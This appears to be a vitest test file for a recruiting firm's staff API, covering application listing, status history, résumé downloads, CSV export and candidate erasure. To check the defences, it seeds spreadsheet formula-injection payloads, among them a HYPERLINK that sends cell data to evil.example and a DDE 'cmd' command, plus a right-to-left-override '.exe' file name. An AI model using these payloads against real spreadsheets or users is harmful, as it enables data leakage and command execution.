import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type {
  ApplicationDetailAnswer,
  ApplicationEraseAnswer,
  ApplicationsPage,
} from "#schemas/application-admin";
import { adminApiPath } from "#schemas/paths";
import { importSeedPostings } from "../jobs/seed";
import { findPostingByPath } from "../jobs/jobs.repository";
import { applicationRow, SAMPLE_PDF, seedApplication, sha256 } from "../test-support/applications";
import { testDialects } from "../test-support/db";
import { csvStream } from "../http/csv";
import { APPLICATION_CSV_HEADER, applicationCsvHeader } from "./csv";
import { type AdminTestApp, parseCsv, startAdminApp } from "../test-support/staff";

const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;
const RECRUITER = "avery.lang@apex.example";

describe.each(testDialects)("applications in the staff API (%s)", (dialect) => {
  let t: AdminTestApp;
  let cookie: string;
  let atlanta: { id: string; path: string; title: string };
  let hyannis: { id: string; path: string };
  const now = Date.now();
  const ids: Record<string, string> = {};

  const get = (url: string, headers: Record<string, string> = { cookie }) =>
    t.app.inject({ method: "GET", url, headers });
  const post = (url: string, payload: object, origin = t.origin) =>
    t.app.inject({ method: "POST", url, headers: { cookie, origin }, payload });
  const list = async (query = "") => {
    const response = await get(`${adminApiPath("applications")}${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as ApplicationsPage;
  };
  const names = (page: ApplicationsPage) => page.applications.map((a) => `${a.firstName} ${a.lastName}`);
  const detail = async (id: string) => {
    const response = await get(adminApiPath("application", { id }));
    expect(response.statusCode, response.body).toBe(200);
    return response.json() as ApplicationDetailAnswer;
  };
  const auditRows = (action: string) =>
    t.kdb
      .selectFrom("admin_audit_log")
      .select(["actor", "detail"])
      .where("action", "=", action)
      .orderBy("created_at", "asc")
      .execute();

  beforeAll(async () => {
    t = await startAdminApp(dialect);
    await importSeedPostings(t.db);
    const a = (await findPostingByPath(t.kdb, "/job-atlanta-pmr"))!;
    atlanta = { id: a.id, path: a.posting.path, title: a.posting.shortTitle };
    const h = (await findPostingByPath(t.kdb, "/job-hyannis-pmr"))!;
    hyannis = { id: h.id, path: h.posting.path };
    await t.addUser(RECRUITER);
    cookie = await t.signIn(RECRUITER);

    ids.maya = (
      await seedApplication(t.db, {
        created_at: now - 5 * MINUTE,
        posting_id: atlanta.id,
        job_path: atlanta.path,
        first_name: "Maya",
        last_name: "Okafor",
        email: "maya.okafor@example.com",
        credential: "NP",
        license_states: JSON.stringify(["GA", "FL"]),
        utm: JSON.stringify({ utm_source: "indeed", utm_campaign: "rehab-q4" }),
        referrer: "https://www.indeed.com/",
      })
    ).id;
    ids.theo = (
      await seedApplication(
        t.db,
        {
          created_at: now - 40 * MINUTE,
          posting_id: hyannis.id,
          job_path: hyannis.path,
          job_title: "PM&R NP/PA – Hyannis, MA",
          first_name: "Theo",
          last_name: "Brandt",
          email: "theo.brandt@example.net",
          credential: "PA",
          license_states: JSON.stringify(["MA", "RI"]),
          status: "screening",
          years_experience: null,
          message: null,
        },
        { channels: ["email", "webhook", "confirmation"] },
      )
    ).id;
    ids.older = (
      await seedApplication(t.db, {
        created_at: now - 3 * DAY,
        posting_id: atlanta.id,
        job_path: atlanta.path,
        first_name: "Maya",
        last_name: "Okafor",
        email: "Maya.Okafor@Example.com",
        credential: "NP",
        license_states: JSON.stringify(["GA"]),
        status: "interview",
      })
    ).id;
    ids.spam = (
      await seedApplication(t.db, {
        created_at: now - 1 * MINUTE,
        posting_id: atlanta.id,
        first_name: "Spam",
        last_name: "Bot",
        email: "bot@spam.example",
        spam_reason: "honeypot",
      })
    ).id;
  });
  afterAll(async () => {
    await t?.close();
  });

  it("answers 401 without a session and 403 to a change from another origin", async () => {
    const id = ids.maya!;
    const reads = [
      adminApiPath("applications"),
      adminApiPath("application", { id }),
      adminApiPath("applicationResume", { id }),
      adminApiPath("applicationsCsv"),
    ];
    for (const url of reads) {
      const answer = await t.app.inject({ method: "GET", url });
      expect(answer.statusCode, url).toBe(401);
      expect(answer.body, url).not.toContain("%PDF");
    }
    const changes: Array<[string, object]> = [
      [adminApiPath("applicationStatus", { id }), { status: "not_fit" }],
      [adminApiPath("applicationRetry", { id, channel: "email" }), {}],
      [adminApiPath("applicationsErase"), { email: "maya.okafor@example.com" }],
    ];
    for (const [url, payload] of changes) {
      const signedOut = await t.app.inject({ method: "POST", url, headers: { origin: t.origin }, payload });
      expect(signedOut.statusCode, url).toBe(401);
      const forged = await post(url, payload, "https://evil.example");
      expect(forged.statusCode, url).toBe(403);
    }
    expect((await detail(id)).application.status).toBe("new");
    expect((await list()).total).toBe(3);
  });

  it("lists applications newest first without spam, with credential, states, posting and a total", async () => {
    const all = await list();
    expect(names(all)).toEqual(["Maya Okafor", "Theo Brandt", "Maya Okafor"]);
    expect(all.total).toBe(3);
    expect(all.nextCursor).toBeNull();
    expect(all.posting).toBeNull();
    expect(all.applications[0]).toMatchObject({
      id: ids.maya,
      status: "new",
      credential: "NP",
      licenseStates: ["GA", "FL"],
      postingId: atlanta.id,
      jobPath: "/job-atlanta-pmr",
      postingTitle: "PM&R NP/PA - Atlanta, GA",
      failedDeliveries: 0,
    });
    expect(names(await list("?status=spam"))).toEqual(["Spam Bot"]);
  });

  it("filters by posting, status, credential, licence state and name or e-mail, and pages", async () => {
    const perPosting = await list(`?posting=${atlanta.id}`);
    expect(perPosting.applications.map((a) => a.id)).toEqual([ids.maya, ids.older]);
    expect(perPosting.posting).toEqual({
      id: atlanta.id,
      path: atlanta.path,
      title: atlanta.title,
      exists: true,
    });
    expect(names(await list("?status=screening"))).toEqual(["Theo Brandt"]);
    expect(names(await list("?credential=PA"))).toEqual(["Theo Brandt"]);
    expect((await list("?state=FL")).applications.map((a) => a.id)).toEqual([ids.maya]);
    expect((await list("?state=GA")).total).toBe(2);
    expect(names(await list("?q=brandt"))).toEqual(["Theo Brandt"]);
    expect((await list("?q=EXAMPLE.COM")).total).toBe(2);
    expect((await list("?q=theo%20b")).total).toBe(1);
    // LIKE wildcards are searched as text.
    expect((await list("?q=%25")).total).toBe(0);
    expect((await list(`?posting=${atlanta.id}&status=interview&state=GA`)).applications[0]?.id).toBe(
      ids.older,
    );

    const first = await list("?limit=2");
    expect(first.applications).toHaveLength(2);
    expect(first.total).toBe(3);
    const second = await list(`?limit=2&cursor=${first.nextCursor}`);
    expect(second.applications.map((a) => a.id)).toEqual([ids.older]);
    expect(second.nextCursor).toBeNull();
    expect(second.total).toBeNull();

    for (const bad of ["?status=hired", "?credential=MD", "?state=ZZ", "?posting=../x", "?cursor=%%%"]) {
      const response = await get(`${adminApiPath("applications")}${bad}`);
      expect(response.statusCode, bad).toBe(400);
    }
  });

  it("shows every field, the posting with its editor, the résumé, attribution and each channel's delivery", async () => {
    const answer = await detail(ids.maya!);
    expect(answer.application).toMatchObject({
      firstName: "Maya",
      lastName: "Okafor",
      email: "maya.okafor@example.com",
      phone: "(404) 555-0142",
      credential: "NP",
      licenseStates: ["GA", "FL"],
      yearsExperience: 6,
      message: "Board-certified FNP with six years in outpatient rehab.",
      pagePath: "/job-atlanta-pmr",
      referrer: "https://www.indeed.com/",
      campaign: { utm_source: "indeed", utm_campaign: "rehab-q4" },
      fillMs: 45_000,
      userAgent: "test",
      resume: {
        originalName: "Maya Okafor résumé.pdf",
        name: "maya-okafor-resume.pdf",
        type: "pdf",
        size: SAMPLE_PDF.length,
        sha256: sha256(SAMPLE_PDF),
      },
    });
    expect(answer.posting).toEqual({
      id: atlanta.id,
      path: "/job-atlanta-pmr",
      title: atlanta.title,
      exists: true,
    });
    expect(answer.deliveries.map((d) => [d.channel, d.status])).toEqual([
      ["confirmation", "pending"],
      ["email", "pending"],
    ]);
    expect(answer.history).toEqual([]);
    // The same address in another letter case is the same candidate.
    expect(answer.sameCandidate).toBe(2);

    const orphan = await seedApplication(t.db, {
      posting_id: "deleted-posting",
      job_path: "/job-old-role",
      job_title: "A role since deleted",
      email: "orphan@example.org",
    });
    expect((await detail(orphan.id)).posting).toEqual({
      id: "deleted-posting",
      path: "/job-old-role",
      title: "A role since deleted",
      exists: false,
    });
    await t.kdb.deleteFrom("applications").where("id", "=", orphan.id).execute();

    expect((await get(adminApiPath("application", { id: "no-such-id" }))).statusCode).toBe(404);
    expect((await get(`${adminApiPath("applications")}/${"x".repeat(300)}`)).statusCode).toBe(404);
  });

  it("changes the status with a note, keeps who and when, and logs the change without the note", async () => {
    const id = ids.theo!;
    const url = adminApiPath("applicationStatus", { id });
    const changed = await post(url, {
      status: "submitted",
      note: "Sent to Cape Cod Rehab; they interview Tuesdays.",
    });
    expect(changed.statusCode, changed.body).toBe(200);
    expect(changed.json().entry).toMatchObject({
      fromStatus: "screening",
      toStatus: "submitted",
      by: RECRUITER,
    });
    const noteOnly = await post(url, { status: "submitted", note: "Client asked for two references." });
    expect(noteOnly.statusCode).toBe(200);
    expect((await post(url, { status: "submitted" })).statusCode).toBe(409);
    expect((await post(url, { status: "hired" })).statusCode).toBe(400);
    expect((await post(url, { status: "offer", note: "x".repeat(501) })).statusCode).toBe(400);
    expect(
      (await post(adminApiPath("applicationStatus", { id: "missing" }), { status: "offer" })).statusCode,
    ).toBe(404);

    const answer = await detail(id);
    expect(answer.application.status).toBe("submitted");
    expect(answer.history.map((h) => [h.fromStatus, h.toStatus, h.note, h.by])).toEqual([
      ["submitted", "submitted", "Client asked for two references.", RECRUITER],
      ["screening", "submitted", "Sent to Cape Cod Rehab; they interview Tuesdays.", RECRUITER],
    ]);
    expect(answer.history[0]!.createdAt).toBeGreaterThanOrEqual(now);
    const logged = await auditRows("application_status");
    expect(logged.map((row) => JSON.parse(row.detail))).toEqual([
      { applicationId: id, from: "screening", to: "submitted", note: true },
      { applicationId: id, from: "submitted", to: "submitted", note: true },
    ]);
    expect(logged.every((row) => row.actor === RECRUITER)).toBe(true);
  });

  it("retries a failed delivery only, puts it back in the outbox and logs it", async () => {
    const id = ids.theo!;
    await t.kdb
      .updateTable("application_notifications")
      .set({ status: "failed", attempts: 20, last_error: "connect ECONNREFUSED 10.0.0.5:443" })
      .where("application_id", "=", id)
      .where("channel", "=", "webhook")
      .execute();
    expect((await list("?credential=PA")).applications[0]?.failedDeliveries).toBe(1);
    const url = adminApiPath("applicationRetry", { id, channel: "webhook" });
    const retried = await post(url, {});
    expect(retried.statusCode).toBe(202);
    const row = await t.kdb
      .selectFrom("application_notifications")
      .selectAll()
      .where("application_id", "=", id)
      .where("channel", "=", "webhook")
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ status: "pending", attempts: 20, claimed_by: null });
    expect(Number(row.next_attempt_at)).toBeLessThanOrEqual(Date.now());
    expect((await post(url, {})).statusCode).toBe(409);
    expect((await post(adminApiPath("applicationRetry", { id, channel: "sms" }), {})).statusCode).toBe(404);
    expect(
      (await post(adminApiPath("applicationRetry", { id: ids.maya!, channel: "webhook" }), {})).statusCode,
    ).toBe(404);
    expect((await auditRows("delivery_retry")).map((r) => JSON.parse(r.detail))).toEqual([
      { applicationId: id, channel: "webhook" },
    ]);
  });

  it("downloads the résumé as an attachment, byte for byte, never inline", async () => {
    const bytes = Buffer.concat([SAMPLE_PDF, randomBytes(64 * 1024)]);
    const stored = await seedApplication(
      t.db,
      {
        email: "rtl@example.org",
        resume_name: 'cv "final".pdf',
        resume_original_name: "\u202Efdp.exe",
        resume_type: "pdf",
      },
      { resume: bytes },
    );
    const response = await get(adminApiPath("applicationResume", { id: stored.id }));
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("application/pdf");
    expect(response.headers["content-disposition"]).toBe(
      `attachment; filename="cv _final_.pdf"; filename*=UTF-8''cv%20%22final%22.pdf`,
    );
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    expect(response.headers["content-security-policy"]).toBe("sandbox");
    expect(response.headers["cache-control"]).toBe("no-store");
    expect(response.rawPayload.equals(bytes)).toBe(true);
    expect(sha256(response.rawPayload)).toBe(stored.resume_sha256);

    const docx = await seedApplication(
      t.db,
      { email: "docx@example.org", resume_name: "Zoë Ramírez CV.docx", resume_type: "docx" },
      { resume: Buffer.from("PK\u0003\u0004 docx body") },
    );
    const word = await get(adminApiPath("applicationResume", { id: docx.id }));
    expect(word.headers["content-type"]).toBe(
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    );
    expect(word.headers["content-disposition"]).toBe(
      `attachment; filename="Zo_ Ram_rez CV.docx"; filename*=UTF-8''Zo%C3%AB%20Ram%C3%ADrez%20CV.docx`,
    );
    expect((await get(adminApiPath("applicationResume", { id: "missing" }))).statusCode).toBe(404);
    expect((await auditRows("resume_download")).map((r) => JSON.parse(r.detail))).toEqual([
      { applicationId: stored.id },
      { applicationId: docx.id },
    ]);
    await t.kdb.deleteFrom("applications").where("id", "in", [stored.id, docx.id]).execute();
  });

  it("exports a formula-safe CSV of the filtered list, logging which filters and how many rows", async () => {
    const hostile = await seedApplication(t.db, {
      created_at: now - 2 * MINUTE,
      posting_id: hyannis.id,
      first_name: '=HYPERLINK("http://evil.example/?x="&A2,"CV")',
      last_name: "+SUM(1,2)",
      email: "@formula.example",
      phone: "-1+1",
      credential: "PA",
      license_states: JSON.stringify(["MA"]),
      message: 'Available in March;=1+1 "soon"\nsecond line',
      resume_original_name: "=cmd|' /C calc'!A0.pdf",
    });
    const response = await get(`${adminApiPath("applicationsCsv")}?credential=PA&q=formula`);
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="applications-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers["cache-control"]).toBe("no-store");
    expect(response.body.startsWith("\uFEFF")).toBe(true);
    const rows = parseCsv(response.body.slice(1));
    expect(rows[0]).toEqual(applicationCsvHeader(t.config.BUSINESS_TZ));
    expect(rows).toHaveLength(2);
    const cell = (name: (typeof APPLICATION_CSV_HEADER)[number]) =>
      rows[1]![APPLICATION_CSV_HEADER.indexOf(name)];
    expect(cell("First name")).toBe(`'=HYPERLINK("http://evil.example/?x="&A2,"CV")`);
    expect(cell("Last name")).toBe("'+SUM(1,2)");
    expect(cell("E-mail")).toBe("'@formula.example");
    expect(cell("Phone")).toBe("'-1+1");
    expect(cell("Message")).toBe(`Available in March;'=1+1 "soon"\nsecond line`);
    expect(cell("Résumé file")).toBe("'=cmd|' /C calc'!A0.pdf");
    expect(cell("Credential")).toBe("PA");
    expect(cell("Licensed in")).toBe("MA");
    expect(cell("Status")).toBe("Applied");
    expect(cell("Application ID")).toBe(hostile.id);

    const all = parseCsv((await get(adminApiPath("applicationsCsv"))).body.slice(1));
    expect(all.slice(1).map((row) => row.at(-1))).toEqual([hostile.id, ids.maya, ids.theo, ids.older]);
    const audit = await auditRows("application_export");
    expect(audit.map((row) => JSON.parse(row.detail))).toEqual([
      { filters: ["credential", "search"], rows: 1, complete: true },
      { filters: [], rows: 4, complete: true },
    ]);
    expect(audit.map((row) => row.detail).join("")).not.toContain("formula");
    expect((await get(`${adminApiPath("applicationsCsv")}?state=XX`)).statusCode).toBe(400);
    await t.kdb.deleteFrom("applications").where("id", "=", hostile.id).execute();
  });

  it("exports the owner, the number of notes and the first response, in the firm's time zone", async () => {
    const owned = await seedApplication(t.db, {
      created_at: Date.UTC(2026, 2, 7, 20, 0, 0),
      posting_id: hyannis.id,
      first_name: "Quillon",
      email: "quillon@example.org",
    });
    await t.kdb
      .updateTable("applications")
      .set({
        owner_id: (
          await t.kdb
            .selectFrom("admin_users")
            .select("id")
            .where("email", "=", RECRUITER)
            .executeTakeFirstOrThrow()
        ).id,
      })
      .where("id", "=", owned.id)
      .execute();
    const url = adminApiPath("applicationStatus", { id: owned.id });
    expect((await post(url, { status: "screening", note: "Strong PM&R background." })).statusCode).toBe(200);
    expect((await post(url, { status: "screening", note: "Asked for references." })).statusCode).toBe(200);
    expect((await post(url, { status: "submitted" })).statusCode).toBe(200);
    const first = await t.kdb
      .selectFrom("application_status_changes")
      .select((eb) => eb.fn.min("created_at").as("at"))
      .where("application_id", "=", owned.id)
      .executeTakeFirstOrThrow();

    const rows = parseCsv((await get(`${adminApiPath("applicationsCsv")}?q=quillon`)).body.slice(1));
    expect(rows).toHaveLength(2);
    const cell = (name: (typeof APPLICATION_CSV_HEADER)[number]) =>
      rows[1]![APPLICATION_CSV_HEADER.indexOf(name)];
    expect(t.config.BUSINESS_TZ).toBe("America/New_York");
    expect(cell("Received")).toBe("2026-03-07T15:00:00-05:00");
    expect(cell("Owner")).toBe(RECRUITER);
    expect(cell("Notes")).toBe("2");
    expect(cell("First response")).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-0[45]:00$/);
    expect(Date.parse(cell("First response")!)).toBe(Math.floor(Number(first.at) / 1000) * 1000);
    await t.kdb.deleteFrom("application_status_changes").where("application_id", "=", owned.id).execute();
    await t.kdb.deleteFrom("applications").where("id", "=", owned.id).execute();
  });

  it("streams the export a page of rows at a time, with no length known in advance", async () => {
    const batch = Array.from({ length: 1_100 }, (_, n) =>
      applicationRow({
        created_at: now - 30 * DAY - n * 1000,
        posting_id: "bulk-posting",
        email: `bulk${n}@example.org`,
        first_name: `Bulk${n}`,
      }),
    );
    for (let i = 0; i < batch.length; i += 200)
      await t.kdb
        .insertInto("applications")
        .values(batch.slice(i, i + 200))
        .execute();
    await t.app.listen({ port: 0, host: "127.0.0.1" });
    const address = t.app.server.address();
    if (!address || typeof address === "string") throw new Error("not listening");
    const response = await fetch(
      `http://127.0.0.1:${address.port}${adminApiPath("applicationsCsv")}?posting=bulk-posting`,
      { headers: { cookie } },
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-length")).toBeNull();
    expect(response.headers.get("transfer-encoding")).toBe("chunked");
    // fetch's text() drops the byte-order mark.
    const text = await response.text();
    expect(parseCsv(text.replace(/^\uFEFF/, ""))).toHaveLength(1 + batch.length);

    // The file is made a page at a time: the header, then one chunk per page of 500 rows.
    async function* pages() {
      for (let i = 0; i < batch.length; i += 500) yield batch.slice(i, i + 500);
    }
    const chunks: string[] = [];
    let finished: [number, boolean] | null = null;
    const stream = csvStream(
      APPLICATION_CSV_HEADER,
      pages(),
      (row) => `${row.id}\r\n`,
      async (rows, complete) => {
        finished = [rows, complete];
      },
    );
    for await (const chunk of stream) chunks.push(chunk as string);
    expect(chunks).toHaveLength(1 + 3);
    expect(finished).toEqual([batch.length, true]);
    await t.kdb.deleteFrom("applications").where("posting_id", "=", "bulk-posting").execute();
  });

  it("counts each posting's applications in the Jobs list, spam aside", async () => {
    const response = await get(`${adminApiPath("jobs")}/`);
    const postings = response.json().postings as Array<{ id: string; applications: number }>;
    const count = (id: string) => postings.find((p) => p.id === id)?.applications;
    expect(count(atlanta.id)).toBe(2);
    expect(count(hyannis.id)).toBe(1);
    expect(postings.filter((p) => p.applications === 0)).toHaveLength(postings.length - 2);
  });

  it("erases one candidate's applications, files, deliveries and history, and logs it without who", async () => {
    const url = adminApiPath("applicationsErase");
    await post(adminApiPath("applicationStatus", { id: ids.older! }), {
      status: "offer",
      note: "Offer at $128k.",
    });
    const preview = await post(url, { email: " MAYA.okafor@example.com ", preview: true });
    expect(preview.statusCode).toBe(200);
    expect(preview.json() as ApplicationEraseAnswer).toEqual({ count: 2, erased: false });
    expect((await list()).total).toBe(3);

    const erased = await post(url, { email: "maya.okafor@example.com" });
    expect(erased.statusCode, erased.body).toBe(200);
    expect(erased.json()).toEqual({ count: 2, erased: true });
    const gone = [ids.maya!, ids.older!];
    for (const table of [
      "application_files",
      "application_notifications",
      "application_status_changes",
    ] as const) {
      const left = await t.kdb
        .selectFrom(table)
        .select("application_id")
        .where("application_id", "in", gone)
        .execute();
      expect(left, table).toEqual([]);
    }
    expect(await t.kdb.selectFrom("applications").select("id").where("id", "in", gone).execute()).toEqual([]);
    expect(names(await list())).toEqual(["Theo Brandt"]);
    expect((await get(adminApiPath("applicationResume", { id: ids.maya! }))).statusCode).toBe(404);

    const logged = await auditRows("application_erase");
    expect(logged).toHaveLength(1);
    const entry = JSON.parse(logged[0]!.detail);
    expect(entry.count).toBe(2);
    expect([...entry.applicationIds].sort()).toEqual([...gone].sort());
    const everything = (await t.kdb.selectFrom("admin_audit_log").select("detail").execute())
      .map((row) => row.detail)
      .join("\n")
      .toLowerCase();
    expect(everything).not.toContain("okafor");
    expect(everything).not.toContain("maya");

    expect((await post(url, { email: "maya.okafor@example.com" })).statusCode).toBe(404);
    expect((await post(url, { email: "not an address" })).statusCode).toBe(400);
    expect((await post(url, { email: "a@b.example", preview: "yes" })).statusCode).toBe(400);
    expect((await post(url, {})).statusCode).toBe(400);
  });
});
